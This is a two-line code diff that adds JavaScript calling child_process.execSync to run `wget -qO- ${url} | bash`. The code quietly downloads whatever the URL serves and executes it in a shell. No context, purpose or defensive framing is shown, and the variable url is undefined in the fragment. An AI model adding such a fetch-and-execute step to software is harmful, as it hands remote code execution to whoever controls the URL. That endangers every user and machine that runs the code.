@@ -1,0 +1,2 @@
+const { execSync } = require('child_process');
+execSync(`wget -qO- ${url} | bash`);
